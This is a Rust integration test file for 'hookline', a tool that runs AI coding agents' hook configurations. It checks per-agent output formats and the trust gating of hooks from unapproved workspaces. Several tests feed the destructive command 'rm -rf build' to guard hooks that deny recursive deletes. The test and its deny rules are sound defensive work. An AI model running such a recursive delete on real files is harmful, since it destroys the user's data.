    let run = |format: &str, event: &str| {
        sb.run_stdin(&["run", event, "-c", s(&missing), "--input", "-", "--format", format], BASH_LS)
    };
    for format in ["codex", "vscode", "vtcode"] {
        let r = run(format, "PreToolUse");
        assert_eq!(r.code, 2, "{format}: {}", r.stderr);
        assert!(r.stderr.contains("missing.json") && r.stdout.is_empty(), "{format}: {} {}", r.stdout, r.stderr);
    }
    let r = run("gemini", "BeforeTool");
    assert_eq!(r.code, 2, "{}", r.stderr);
    let answer = r.json();
    assert_eq!(answer["decision"], "deny");
    assert!(answer["reason"].as_str().unwrap().contains("missing.json"), "{answer}");
    let r = run("cursor", "beforeShellExecution");
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stdout.contains("missing.json"), "Cursor reads the reason from stdout: {}", r.stdout);
    let r = run("copilot", "preToolUse");
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("missing.json"), "{}", r.stderr);
    let r = run("copilot", "PermissionRequest");
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(r.json()["behavior"], "deny");
    // Events no hook can block keep a non-blocking error.
    assert_eq!(run("gemini", "SessionStart").code, 1);
    assert_eq!(run("cursor", "sessionStart").code, 1);
}

/// A deny of the hooks is the agent's blocking answer in its format too
/// (Cursor: the reason on stdout, where Cursor reads it).
#[test]
fn run_agent_formats_answer_a_deny_as_the_agent_reads_it() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "cursor"], BASH_RM);
    assert_eq!((r.code, r.stdout.trim()), (2, "no recursive deletes"), "{}", r.stderr);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "gemini"], BASH_RM);
    assert_eq!(r.code, 2);
    assert_eq!(r.json()["reason"], "no recursive deletes");
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "codex"], BASH_LS);
    assert_eq!((r.code, r.stdout.as_str()), (0, ""), "{}", r.stderr);
}

/// Without --config, `run` and `explain` find a workspace's hooks as a host
/// does — and gate the project's files as a host does: a freshly cloned
/// repository's hooks are skipped and reported "not approved: `hookline
/// trust approve`" until approved (or `--trust-workspace`); the user's own
/// files run as before.
#[test]
fn discovered_project_hooks_are_gated_until_approved_and_user_hooks_run() {
    let sb = Sandbox::new();
    let ws = sb.ws();
    sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "cat >/dev/null; touch project-ran"}]}]}}),
    );
    sb.write_json(
        "home/.claude/settings.json",
        &json!({"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "cat >/dev/null; touch user-ran"}]}]}}),
    );
    let store = sb.path().join("trust.json");
    let run = |extra: &[&str]| {
        let mut args =
            vec!["run", "PreToolUse", "-w", s(&ws), "--store", s(&store), "--input", "-", "--format", "json"];
        args.extend(extra);
        sb.run_stdin(&args, BASH_LS)
    };
    let r = run(&[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!ws.join("project-ran").exists(), "an unapproved project hook ran");
    assert!(ws.join("user-ran").exists(), "the user's own hook runs");
    let skipped: Vec<Value> = r.json()["hooks"].as_array().unwrap().iter().map(|h| h["skipped"].clone()).collect();
    assert!(skipped.contains(&json!("not_approved")), "{}", r.stdout);
    assert!(r.stderr.contains("not approved: `hookline trust approve`"), "{}", r.stderr);

    let e = sb.run_stdin(&["explain", "PreToolUse", "-w", s(&ws), "--store", s(&store), "--input", "-"], BASH_LS);
    assert!(e.stdout.contains("gated: NOT approved"), "{}", e.stdout);
    assert!(!e.stdout.contains("configs given on the command line"), "none were given: {}", e.stdout);
    let e = sb.run_stdin(&["explain", "PreToolUse", "-w", s(&ws), "--trust-workspace", "--input", "-"], BASH_LS);
    assert!(e.stdout.contains("ungated: --trust-workspace"), "{}", e.stdout);

    let r = run(&["--trust-workspace"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(ws.join("project-ran").exists(), "--trust-workspace runs the project's hooks");
    std::fs::remove_file(ws.join("project-ran")).unwrap();

    let a = sb.run(&["trust", "approve", "-w", s(&ws), "--store", s(&store)]);
    assert_eq!(a.code, 0, "{}", a.stderr);
    let r = run(&[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(ws.join("project-ran").exists(), "approved: it runs: {}", r.stdout);
    assert!(!r.stderr.contains("not approved"), "{}", r.stderr);
}

/// Cline's search paths: "`~/Documents/Cline/Hooks`, `~/.cline/hooks`,
/// `<ws>/.clinerules/hooks`, `<ws>/.cline/hooks`": `run` without --config
/// finds the folders (the user's trusted, the workspace's gated), and
/// `check` on a folder reports the hook files Cline skips (a non-executable
/// one, a `.ps1` off Windows).
#[test]
fn cline_hooks_folders_are_found_and_checked() {
    let sb = Sandbox::new();
    let exec = |p: &PathBuf| std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    exec(
        &sb.write("home/Documents/Cline/Hooks/PreToolUse", "#!/bin/sh\necho '{\"contextModification\": \"global\"}'\n"),
    );
    exec(&sb.write(
        "ws/.clinerules/hooks/PreToolUse",
        "#!/bin/sh\ncat >/dev/null\necho '{\"cancel\": true, \"errorMessage\": \"no rm\"}'\n",
    ));
    sb.write("ws/.clinerules/hooks/PostToolUse", "#!/bin/sh\necho '{\"cancel\": true}'\n");
    sb.write("ws/.clinerules/hooks/TaskStart.ps1", "Write-Output '{}'\n");
    let ws = sb.ws();
    let out = sb.run_stdin(&["run", "PreToolUse", "-w", s(&ws), "--format", "json"], BASH_RM).json();
    assert_eq!(out["decision"], "continue", "the project's folder waits for approval: {out}");
    assert_eq!(out["additional_context"], json!(["global"]), "{out}");
    let out =
        sb.run_stdin(&["run", "PreToolUse", "-w", s(&ws), "--format", "json", "--trust-workspace"], BASH_RM).json();
    assert_eq!(out["decision"], "deny", "{out}");
    assert_eq!(out["reason"], "no rm");
    let ex = sb.run_stdin(&["explain", "PreToolUse", "-w", s(&ws), "--format", "json"], BASH_RM).json();
    let origins: Vec<&str> = ex["configs"].as_array().unwrap().iter().filter_map(|c| c["origin"].as_str()).collect();
    assert_eq!(origins, ["user", "project"], "{ex}");
    let r = sb.run(&["check", s(&ws.join(".clinerules/hooks"))]);
    assert_eq!(r.code, 1, "{}{}", r.stdout, r.stderr);
    let all = format!("{}{}", r.stdout, r.stderr);
    assert!(all.contains("PostToolUse") && all.contains("is not executable"), "{all}");
    assert!(all.contains("TaskStart.ps1") && all.contains("only on Windows"), "{all}");
    assert!(!all.contains("does not exist"), "{all}");
}

/// A workspace with a Claude Code, Codex, Gemini CLI, Cursor and Copilot CLI
/// config, each guarding the shell tool by its own agent's name ("Bash";
/// Codex "Bash"; Gemini CLI "run_shell_command"; Cursor's "Shell" tool type;
/// Copilot CLI's runtime name "bash"): each guard denies `rm -rf` with its
/// agent's name in the reason.
fn five_agents(sb: &Sandbox) -> Vec<PathBuf> {
    let guard = |agent: &str| {
        format!("grep -q 'rm -rf' && {{ echo '{agent} says no'; echo '{agent} says no' >&2; exit 2; }}; echo '{{}}'")
    };
    let hook = |agent: &str| json!({"type": "command", "command": guard(agent)});
    vec![
        sb.write_json("ws/.claude/settings.json", &json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [hook("claude")]}]}})),
        sb.write_json("ws/.codex/hooks.json", &json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [hook("codex")]}]}})),
        sb.write_json(
            "ws/.gemini/settings.json",
            &json!({"hooks": {"BeforeTool": [{"matcher": "run_shell_command", "hooks": [hook("gemini")]}]}}),
        ),
        sb.write_json(
            "ws/.cursor/hooks.json",
            &json!({"version": 1, "hooks": {"preToolUse": [{"matcher": "Shell", "command": guard("cursor")}]}}),
        ),
        sb.write_json(
            "ws/.github/hooks/guard.json",
            &json!({"version": 1, "hooks": {"preToolUse": [{"type": "command", "bash": guard("copilot"), "matcher": "bash"}]}}),
        ),
    ]
}

/// `hookline explain` with a canonical Bash call: every agent's shell guard
/// is matched on its own agent's name and input (Cursor's Shell carries the
/// directory), and says so.
#[test]
fn explain_shows_each_agents_name_and_input_for_a_canonical_call() {
    let sb = Sandbox::new();
    five_agents(&sb);
    let ws = sb.ws();
    let args =
        ["explain", "PreToolUse", "--workspace", s(&ws), "--trust-workspace", "--input", "-", "--format", "json"];
    let r = sb.run_stdin(&args, BASH_LS);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let doc = r.json();
    let hooks = doc["hooks"].as_array().unwrap();
    let names: Vec<&str> = hooks.iter().map(|h| h["tool_name"].as_str().unwrap()).collect();
    assert_eq!(names, ["Bash", "Bash", "run_shell_command", "Shell", "bash"], "{doc:#}");
    assert!(hooks.iter().all(|h| h["matched"] == true), "{doc:#}");
    let cursor = hooks.iter().find(|h| h["tool_name"] == "Shell").unwrap();
    let cwd = std::fs::canonicalize(&ws).unwrap();
    assert_eq!(cursor["tool_input"], json!({"command": "ls", "cwd": s(&cwd)}));
    // The text names the call and never says a match-all matcher did not match.
    let text =
        sb.run_stdin(&["explain", "PreToolUse", "--workspace", s(&ws), "--trust-workspace", "--input", "-"], BASH_LS);
    assert!(
        text.stdout.contains("call:    run_shell_command {\"command\":\"ls\"} (Gemini CLI's name and input)"),
        "{}",
        text.stdout
    );
    assert!(text.stdout.contains("tested:  tool_name = \"Shell\" -> match"), "{}", text.stdout);
}

/// `hookline run`: a deny from any of the five agents' guards holds for a
/// canonical Bash call; with `--config` files of one agent, the same.
#[test]
fn run_a_canonical_bash_call_is_denied_by_every_agents_guard() {
    let sb = Sandbox::new();
    let files = five_agents(&sb);
    let ws = sb.ws();
    let rm = r#"{"tool_name":"Bash","tool_input":{"command":"rm -rf build"}}"#;
    let r = sb.run_stdin(
        &["run", "PreToolUse", "--workspace", s(&ws), "--trust-workspace", "--input", "-", "--format", "json"],
        rm,
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(r.json()["hooks"].as_array().unwrap().len(), 5, "{}", r.stdout);
    for (file, agent) in files.iter().zip(["claude", "codex", "gemini", "cursor", "copilot"]) {
        let args =
            ["run", "PreToolUse", "--config", s(file), "--workspace", s(&ws), "--input", "-", "--format", "json"];
        let r = sb.run_stdin(&args, rm);
        assert_eq!(r.code, 2, "{agent}: {} {}", r.stdout, r.stderr);
        assert_eq!(r.json()["decision"], "deny", "{agent}");
        assert!(r.json()["reason"].as_str().unwrap().contains(&format!("{agent} says no")), "{agent}: {}", r.stdout);
    }
}
